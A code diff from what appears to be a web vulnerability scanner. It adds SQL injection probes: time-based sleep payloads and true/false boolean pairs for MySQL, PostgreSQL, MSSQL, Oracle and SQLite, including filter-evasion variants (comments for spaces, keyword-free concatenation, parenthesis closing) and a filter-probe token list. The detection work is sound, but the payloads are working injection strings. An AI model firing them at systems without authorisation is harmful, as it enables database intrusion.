@@ -49,17 +49,32 @@ export interface SleepPayload {
   context: 'string' | 'numeric';
   /** Appended to the original value; `{d}` is the delay in seconds. */
   suffix: string;
+  /** How it is built, for the finding: its family (comment style, closing parenthesis, keyword-free...). */
+  family: string;
+  /** Only tried once a filter was seen: an unfiltered point keeps the first, cheapest list. */
+  filtered?: boolean;
 }
 
 export const SLEEP_PAYLOADS: readonly SleepPayload[] = [
-  { dbms: 'MySQL/MariaDB', context: 'string', suffix: `' AND (SELECT 1 FROM (SELECT SLEEP({d}))wsc) AND '1'='1` },
-  { dbms: 'PostgreSQL', context: 'string', suffix: `'||(SELECT '' FROM pg_sleep({d}))||'` },
-  { dbms: 'MSSQL', context: 'string', suffix: `';WAITFOR DELAY '0:0:{d}'--` },
-  { dbms: 'Oracle', context: 'string', suffix: `'||DBMS_PIPE.RECEIVE_MESSAGE('wsc',{d})||'` },
-  { dbms: 'MySQL/MariaDB', context: 'numeric', suffix: ` AND (SELECT 1 FROM (SELECT SLEEP({d}))wsc)` },
-  { dbms: 'PostgreSQL', context: 'numeric', suffix: `+(SELECT 0 FROM pg_sleep({d}))` },
-  { dbms: 'MSSQL', context: 'numeric', suffix: `;WAITFOR DELAY '0:0:{d}'--` },
-  { dbms: 'Oracle', context: 'numeric', suffix: `+DBMS_PIPE.RECEIVE_MESSAGE('wsc',{d})` },
+  { dbms: 'MySQL/MariaDB', context: 'string', family: 'AND subquery', suffix: `' AND (SELECT 1 FROM (SELECT SLEEP({d}))wsc) AND '1'='1` },
+  { dbms: 'PostgreSQL', context: 'string', family: 'concatenated subquery', suffix: `'||(SELECT '' FROM pg_sleep({d}))||'` },
+  { dbms: 'MSSQL', context: 'string', family: 'stacked query', suffix: `';WAITFOR DELAY '0:0:{d}'--` },
+  { dbms: 'Oracle', context: 'string', family: 'concatenated function', suffix: `'||DBMS_PIPE.RECEIVE_MESSAGE('wsc',{d})||'` },
+  { dbms: 'MySQL/MariaDB', context: 'numeric', family: 'AND subquery', suffix: ` AND (SELECT 1 FROM (SELECT SLEEP({d}))wsc)` },
+  { dbms: 'PostgreSQL', context: 'numeric', family: 'added subquery', suffix: `+(SELECT 0 FROM pg_sleep({d}))` },
+  { dbms: 'MSSQL', context: 'numeric', family: 'stacked query', suffix: `;WAITFOR DELAY '0:0:{d}'--` },
+  { dbms: 'Oracle', context: 'numeric', family: 'added function', suffix: `+DBMS_PIPE.RECEIVE_MESSAGE('wsc',{d})` },
+  // Behind a filter: keyword-free (a bare function call concatenated or subtracted), space-free
+  // (comments for spaces), and closing a parenthesis the query opened.
+  { dbms: 'PostgreSQL', context: 'string', family: 'keyword-free concatenation', suffix: `'||pg_sleep({d})||'`, filtered: true },
+  { dbms: 'MySQL/MariaDB', context: 'string', family: 'keyword-free subtraction', suffix: `'-SLEEP({d})-'`, filtered: true },
+  { dbms: 'MySQL/MariaDB', context: 'string', family: 'comment for spaces', suffix: `'/**/AND/**/SLEEP({d})/**/AND/**/'1'='1`, filtered: true },
+  { dbms: 'MySQL/MariaDB', context: 'string', family: 'closing parenthesis', suffix: `') AND SLEEP({d}) AND ('1'='1`, filtered: true },
+  { dbms: 'MSSQL', context: 'string', family: 'comment for spaces', suffix: `';WAITFOR/**/DELAY/**/'0:0:{d}'--`, filtered: true },
+  { dbms: 'MySQL/MariaDB', context: 'numeric', family: 'keyword-free subtraction', suffix: `-SLEEP({d})`, filtered: true },
+  { dbms: 'MySQL/MariaDB', context: 'numeric', family: 'comment for spaces', suffix: `/**/AND/**/SLEEP({d})`, filtered: true },
+  { dbms: 'PostgreSQL', context: 'numeric', family: 'comment for spaces', suffix: `/**/AND/**/0=(SELECT/**/0/**/FROM/**/pg_sleep({d}))`, filtered: true },
+  { dbms: 'MSSQL', context: 'numeric', family: 'comment for spaces', suffix: `;WAITFOR/**/DELAY/**/'0:0:{d}'--`, filtered: true },
 ];
 
 /** Delays of the first probe and of its confirmation: different, so a coincidence cannot pass twice. */
@@ -67,18 +82,62 @@ export const SLEEP_DELAYS = [2, 4] as const;
 
 export interface BooleanPair {
   context: 'numeric' | 'string' | 'string-like' | 'string-dq' | 'string-comment';
+  /** How it is built, for the finding (and the DBMS when only some understand it). */
+  family: string;
   /** Build the true and false suffixes around two random numbers a != b. */
-  pair(a: number, b: number): [string, string];
+  pair?(a: number, b: number): [string, string];
+  /**
+   * Or whole values built from the original `v` (a split string concatenated again, a number as a
+   * difference); null when `v` cannot carry it.
+   */
+  full?(v: string, a: number, b: number): [string, string] | null;
+  /**
+   * A value a sanitiser that strips quotes or operators would also turn back into `v`, while SQL
+   * reads it as another value: if it leaves the page as it was, the pair proved stripping, not SQL.
+   */
+  control?(v: string): string;
+  /** Only tried once a filter was seen. */
+  filtered?: boolean;
 }
 
+/** `v` split at a point that depends on `a`, so two rounds split it differently. */
+function split(v: string, a: number): [string, string] | null {
+  if (v.length < 2 || /['"\\]/.test(v)) return null;
+  const at = 1 + (a % (v.length - 1));
+  return [v.slice(0, at), v.slice(at)];
+}
+
+const concat = (op: string) => (v: string, a: number, b: number): [string, string] | null => {
+  const s = split(v, a);
+  return s ? [`${s[0]}'${op}'${s[1]}`, `${s[0]}'${op}'${s[1]}${b}`] : null;
+};
+const unconcat = (v: string): string => {
+  const s = split(v, 0) ?? [v, ''];
+  return `${s[0]}''${s[1]}`;
+};
+
 export const BOOLEAN_PAIRS: readonly BooleanPair[] = [
-  { context: 'numeric', pair: (a, b) => [` AND ${a}=${a}`, ` AND ${a}=${b}`] },
-  { context: 'string', pair: (a, b) => [`' AND '${a}'='${a}`, `' AND '${a}'='${b}`] },
+  { context: 'numeric', family: 'AND comparison', pair: (a, b) => [` AND ${a}=${a}`, ` AND ${a}=${b}`] },
+  { context: 'string', family: 'AND comparison', pair: (a, b) => [`' AND '${a}'='${a}`, `' AND '${a}'='${b}`] },
   // inside LIKE '%...%': the closing wildcard is matched by our own '%'='%'
-  { context: 'string-like', pair: (a, b) => [`%' AND ${a}=${a} AND '%'='`, `%' AND ${a}=${b} AND '%'='`] },
-  { context: 'string-comment', pair: (a, b) => [`' AND ${a}=${a}-- `, `' AND ${a}=${b}-- `] },
-  { context: 'string-dq', pair: (a, b) => [`" AND "${a}"="${a}`, `" AND "${a}"="${b}`] },
+  { context: 'string-like', family: 'LIKE wildcard', pair: (a, b) => [`%' AND ${a}=${a} AND '%'='`, `%' AND ${a}=${b} AND '%'='`] },
+  { context: 'string-comment', family: 'line comment', pair: (a, b) => [`' AND ${a}=${a}-- `, `' AND ${a}=${b}-- `] },
+  { context: 'string-dq', family: 'double quotes', pair: (a, b) => [`" AND "${a}"="${a}`, `" AND "${a}"="${b}`] },
+  // Behind a filter. Keyword-free: the value split and concatenated again is the same value
+  // (|| for SQLite, PostgreSQL, Oracle; + for MSSQL; adjacent literals for MySQL), and a number
+  // written as a difference is the same number.
+  { context: 'string', family: 'closing parenthesis', pair: (a, b) => [`') AND ('${a}'='${a}`, `') AND ('${a}'='${b}`], filtered: true },
+  { context: 'string', family: 'comment for spaces', pair: (a, b) => [`'/**/AND/**/'${a}'='${a}`, `'/**/AND/**/'${a}'='${b}`], filtered: true },
+  { context: 'string', family: 'keyword-free || concatenation (SQLite, PostgreSQL, Oracle)', full: concat('||'), control: unconcat, filtered: true },
+  { context: 'string', family: 'keyword-free + concatenation (MSSQL)', full: concat('+'), control: unconcat, filtered: true },
+  { context: 'string', family: 'keyword-free adjacent literals (MySQL/MariaDB)', full: concat(' '), control: unconcat, filtered: true },
+  { context: 'numeric', family: 'comment for spaces', pair: (a, b) => [`/**/AND/**/${a}=${a}`, `/**/AND/**/${a}=${b}`], filtered: true },
+  { context: 'numeric', family: 'closing parenthesis', pair: (a, b) => [`) AND (${a}=${a}`, `) AND (${a}=${b}`], filtered: true },
+  { context: 'numeric', family: 'keyword-free arithmetic', full: (v, a, b) => (/^\d{1,9}$/.test(v) ? [`${Number(v) + a}-${a}`, `${Number(v) + a}-${a + b}`] : null), filtered: true },
 ];
+
+/** What the SQL filter probe asks about: quotes alone and in pairs, parentheses, spaces, comments, keywords. */
+export const SQL_TOKENS = ["'", "''", '"', '(', '()', ' ', '--', '#', '/**/', 'AND', 'OR', 'SELECT', 'SLEEP', '||', ';'] as const;
 
 function htmlEscape(s: string): string {
   return s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/'/g, '&#39;');
